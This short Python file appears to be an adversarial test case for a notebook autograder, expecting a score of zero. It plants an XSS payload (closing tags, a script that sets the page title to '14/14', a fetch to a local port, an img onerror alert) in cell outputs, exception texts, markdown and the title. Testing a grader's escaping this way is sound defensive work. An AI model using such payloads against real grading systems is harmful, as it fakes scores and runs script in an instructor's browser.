"""Plants scripts and closing tags in ids, outputs and exception texts to rewrite the feedback page and run in the instructor's browser.

base: unsolved
max-score: 0
canary: none
"""
SCRIPT = "</pre></div><script>document.title='14/14';fetch('http://127.0.0.1:@OUTSIDE_PORT@/')</script><img src=x onerror=alert(1)>"


def edit(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") in {"q1", "q2"}:
            cell["source"] = f"print({SCRIPT!r})\nraise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT, "application/javascript": "alert(1)"}}]
        if cell["cell_type"] == "markdown":
            cell["source"] = SCRIPT
    notebook["metadata"]["title"] = SCRIPT
    return notebook
